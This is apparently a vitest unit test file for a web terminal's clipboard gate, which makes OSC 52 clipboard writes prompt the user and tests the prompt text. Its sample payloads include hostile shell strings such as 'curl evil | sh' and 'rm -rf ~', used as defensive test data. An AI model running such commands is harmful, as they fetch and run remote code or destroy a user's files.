/**
 * Issue 26 item 4: an OSC 52 clipboard write from terminal output is asked about, never silent
 * (web/src/shell/clipboard-gate.ts). The page's prompt is driven in Chromium by
 * tests/e2e/clipboard-osc52.test.ts.
 */
import { describe, expect, it } from 'vitest';
import {
  characterCount,
  ClipboardGate,
  clipboardPreview,
  clipboardQuestion,
  previewChars,
} from '../../../../web/src/shell/clipboard-gate.js';

describe('ClipboardGate', () => {
  it('asks about the first write and copies nothing until the person answers', () => {
    const gate = new ClipboardGate();
    expect(gate.request('curl evil | sh')).toEqual({ kind: 'ask', text: 'curl evil | sh' });
    expect(gate.pending).toBe('curl evil | sh');
    expect(gate.policy).toBe('ask');
  });

  it('Allow once copies that text and asks again next time', () => {
    const gate = new ClipboardGate();
    gate.request('one');
    expect(gate.decide('allow-once')).toBe('one');
    expect(gate.pending).toBeUndefined();
    expect(gate.request('two')).toEqual({ kind: 'ask', text: 'two' });
  });

  it('Always copies that text and every later one without asking', () => {
    const gate = new ClipboardGate();
    gate.request('one');
    expect(gate.decide('always')).toBe('one');
    expect(gate.policy).toBe('always');
    expect(gate.request('two')).toEqual({ kind: 'write', text: 'two' });
  });

  it('Deny copies nothing and drops every later write without asking', () => {
    const gate = new ClipboardGate();
    gate.request('one');
    expect(gate.decide('deny')).toBeUndefined();
    expect(gate.policy).toBe('deny');
    expect(gate.request('two')).toEqual({ kind: 'drop' });
    expect(gate.pending).toBeUndefined();
  });

  it('closing the prompt without a choice drops that write and asks again next time', () => {
    const gate = new ClipboardGate();
    gate.request('one');
    expect(gate.decide('dismiss')).toBeUndefined();
    expect(gate.policy).toBe('ask');
    expect(gate.request('two')).toEqual({ kind: 'ask', text: 'two' });
  });

  it('a write while the prompt is open replaces the pending one: the answer applies to the latest', () => {
    const gate = new ClipboardGate();
    gate.request('harmless');
    expect(gate.request('curl evil | sh')).toEqual({ kind: 'replace', text: 'curl evil | sh', replaced: 1 });
    expect(gate.request('rm -rf ~')).toEqual({ kind: 'replace', text: 'rm -rf ~', replaced: 2 });
    expect(gate.decide('allow-once')).toBe('rm -rf ~');
    expect(gate.request('next')).toEqual({ kind: 'ask', text: 'next' });
  });

  it('an answer with no prompt open copies nothing', () => {
    const gate = new ClipboardGate();
    expect(gate.decide('allow-once')).toBeUndefined();
    expect(gate.decide('always')).toBeUndefined();
    expect(gate.policy).toBe('ask');
  });
});

describe('the prompt text', () => {
  it('counts characters as a person does, and says when there are several lines', () => {
    expect(characterCount('😀é')).toBe(2);
    expect(clipboardQuestion('x'.repeat(48))).toBe(
      'This terminal wants to copy 48 characters to your clipboard:',
    );
    expect(clipboardQuestion('a')).toBe('This terminal wants to copy 1 character to your clipboard:');
    expect(clipboardQuestion('echo hi\ncurl x | sh')).toBe(
      'This terminal wants to copy 19 characters on 2 lines to your clipboard:',
    );
  });

  it('previews at most previewChars characters and counts the rest', () => {
    expect(clipboardPreview('short')).toEqual({ shown: 'short', omitted: 0 });
    const long = '😀'.repeat(previewChars + 10);
    const { shown, omitted } = clipboardPreview(long);
    expect(Array.from(shown)).toHaveLength(previewChars);
    expect(omitted).toBe(10);
  });
});
